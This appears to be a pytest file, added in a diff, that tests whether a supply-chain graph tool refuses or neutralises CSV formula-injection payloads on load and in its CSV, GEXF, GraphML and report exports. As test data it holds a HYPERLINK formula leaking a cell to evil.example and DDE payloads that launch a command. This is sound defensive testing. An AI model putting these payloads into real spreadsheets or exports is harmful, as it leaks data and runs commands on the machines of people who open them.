@@ -1,0 +1,155 @@
+"""Part 9: hostile input, round two (issue 15).
+
+Each class of attack the second hostile tester found is tried here against the real parts (the
+loader, the embedded store, the CLI in a subprocess, the API over TestClient), and tallied in the
+``round_two`` figures: how many attempts of each class were made and how many were held (refused
+clearly, or made harmless).
+
+Classes: formula cells in exports, deep hierarchies, wide files, deeply nested manifests,
+XML-invalid names, foreign encodings, Host headers, a locked store, a full disk.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+
+import networkx as nx
+import pytest
+from typer.testing import CliRunner
+
+from chainx.cli import app as cli
+from graph.errors import DatasetError
+from graph.export import write_graph_file
+from graph.model import GraphData, Node, Relationship
+from graph.store import reads
+from graph.store.sqlite import SqliteStore
+from loaders.pipeline import load_path
+from loaders.read import read_dataset
+from loaders.validate import validate
+
+
+def tally(figures: dict, kind: str, held: bool) -> bool:
+    counts = figures.setdefault("round_two", {}).setdefault(kind, {"tried": 0, "held": 0})
+    counts["tried"] += 1
+    counts["held"] += bool(held)
+    return held
+
+
+def write(folder, files: dict[str, str], encoding: str = "utf-8"):
+    folder.mkdir(parents=True, exist_ok=True)
+    for name, text in files.items():
+        (folder / name).write_bytes(text.encode(encoding) if isinstance(text, str) else text)
+    return folder
+
+
+def problems_of(folder) -> list[str]:
+    with pytest.raises(DatasetError) as caught:
+        validate(read_dataset(folder))
+    return [str(p) for p in caught.value.problems]
+
+
+# -- formula cells --------------------------------------------------------------------------------
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
+DDE = "-2+3+cmd|' /C calc'!A0"
+FORMULAS = (HYPERLINK, DDE, "@SUM(1+1)*cmd|' /C calc'!A0", "+HYPERLINK(\"http://x\")", "=1+1", "\t=1+1", "\r=1+1", "-四氟苯甲酰氯")
+
+
+@pytest.mark.parametrize("cell, column", [
+    (f'"x;{HYPERLINK.replace(chr(34), chr(34) * 2)}"', "aliases"),
+    (f'";{HYPERLINK.replace(chr(34), chr(34) * 2)}"', "aliases"),
+    (f'"a; {DDE}"', "aliases"),
+])
+def test_a_formula_hidden_in_a_list_item_is_refused_at_load_naming_the_cell(tmp_path, figures, cell, column):
+    folder = write(tmp_path / "d", {"stages.csv": f"id,name,{column}\ns1,纺丝,ok\ns2,织造,{cell}\n"})
+    found = problems_of(folder)
+    assert tally(figures, "formula cells", any(p.startswith(f"stages.csv:3: {column}: the item ") and "spreadsheet formula" in p for p in found)), found
+
+
+def test_a_formula_in_an_enterprise_tag_is_refused(tmp_path, figures):
+    folder = write(tmp_path / "d", {
+        "stages.csv": "id,name\ns1,纺丝\n", "regions.csv": "id,name\nr,地\n",
+        "enterprises.csv": f"id,name,region,tags\ne1,甲,r,\"ok;{DDE}\"\n",
+    })
+    found = problems_of(folder)
+    assert tally(figures, "formula cells", any(p.startswith("enterprises.csv:2: tags: the item ") for p in found)), found
+
+
+@pytest.fixture
+def hostile_store(tmp_path):
+    """A store written directly (not through the loader, which refuses them), holding every
+    formula in names, aliases, tags, descriptions, extra properties and relationship keys."""
+    nodes = [Node("Region", "r", "地")]
+    relationships = []
+    for i, formula in enumerate(FORMULAS):
+        nodes.append(Node("Stage", f"s{i}", formula, {"aliases": ["ok", formula], "description": formula, "note": formula}))
+        nodes.append(Node("Enterprise", f"e{i}", formula, {"region": "r", "tags": [formula, "x"]}))
+        relationships += [Relationship("OPERATES_IN", f"e{i}", f"s{i}"), Relationship("LOCATED_IN", f"e{i}", "r"),
+                          Relationship("SUPPLIES", f"e{i}", f"e{(i + 1) % len(FORMULAS)}", formula, {"note": formula})]
+    store = SqliteStore(tmp_path / "hostile.db", create=True)
+    store.write(GraphData(nodes=nodes, relationships=relationships))
+    yield store
+    store.close()
+
+
+# OWASP's list of the characters a formula may start with (tab and line ends included)
+TRIGGERS, BLANK_TRIGGERS = ("=", "+", "-", "@"), ("\t", "\r", "\n")
+
+
+def live_formula(cell: str) -> bool:
+    """Whether a spreadsheet cell would run as a formula: it starts with a trigger (after blanks,
+    as some importers trim them) and is no plain number."""
+    stripped = cell.lstrip(" \t\r\n")
+    return (cell[:1] in BLANK_TRIGGERS or stripped[:1] in TRIGGERS) and re.fullmatch(r"[+-]?[\d.]+", cell.strip()) is None
+
+
+def cells_of(text: str) -> list[str]:
+    """Every cell of a CSV text, and every ";"-separated item of one (a list column, which a
+    spreadsheet told to split on ";" turns into cells of their own)."""
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    return cells + [item for cell in cells if ";" in cell for item in cell.split(";")]
+
+
+def test_csv_export_holds_no_live_formula_in_any_cell_nor_after_a_semicolon(hostile_store, tmp_path, figures):
+    out = tmp_path / "export"
+    result = CliRunner().invoke(cli, ["export", "--format", "csv", "-o", str(out), "--store", str(hostile_store.path)])
+    assert result.exit_code == 0, result.output
+    files = sorted(out.glob("*.csv"))
+    assert files
+    for file in files:
+        live = [cell for cell in cells_of(file.read_text(encoding="utf-8-sig")) if live_formula(cell)]
+        assert tally(figures, "formula cells", not live), (file.name, live)
+
+
+def test_the_csv_export_loads_back_into_the_same_texts(tmp_path):
+    """The apostrophe the export puts in front of -四氟苯甲酰氯 is taken off by the loader."""
+    folder = write(tmp_path / "d", {"stages.csv": "id,name,aliases\ns1,-四氟苯甲酰氯,\"+氯;-氟\"\n"})
+    with SqliteStore(tmp_path / "a.db", create=True) as store:
+        load_path(store, folder)
+        CliRunner().invoke(cli, ["export", "--format", "csv", "-o", str(tmp_path / "out"), "--store", str(tmp_path / "a.db")])
+    assert "'-四氟苯甲酰氯" in (tmp_path / "out" / "stages.csv").read_text(encoding="utf-8-sig")
+    with SqliteStore(tmp_path / "b.db", create=True) as store:
+        load_path(store, tmp_path / "out")
+        node = reads.get_node(store, "s1")
+    assert (node.name, node.props["aliases"]) == ("-四氟苯甲酰氯", ["+氯", "-氟"])
+
+
+@pytest.mark.parametrize("fmt, read", [("gexf", nx.read_gexf), ("graphml", nx.read_graphml)])
+def test_gexf_and_graphml_exports_hold_no_live_formula_in_any_text(hostile_store, tmp_path, figures, fmt, read):
+    path = tmp_path / f"g.{fmt}"
+    write_graph_file(reads.snapshot(hostile_store), path, fmt)
+    graph = read(path)
+    texts = [v for _, attrs in graph.nodes(data=True) for v in attrs.values() if isinstance(v, str)]
+    texts += [v for *_, attrs in graph.edges(data=True) for v in attrs.values() if isinstance(v, str)]
+    assert any(HYPERLINK in t for t in texts)  # the data is there, made harmless
+    live = [t for t in texts for item in t.split(";") if live_formula(t) or live_formula(item)]
+    assert tally(figures, "formula cells", not live), live
+
+
+def test_report_csv_holds_no_live_formula(hostile_store, figures):
+    result = CliRunner().invoke(cli, ["search", "HYPERLINK", "--store", str(hostile_store.path), "--format", "csv"])
+    assert result.exit_code == 0, result.output
+    assert "HYPERLINK" in result.output
+    live = [cell for cell in cells_of(result.output) if live_formula(cell)]
+    assert tally(figures, "formula cells", not live), live
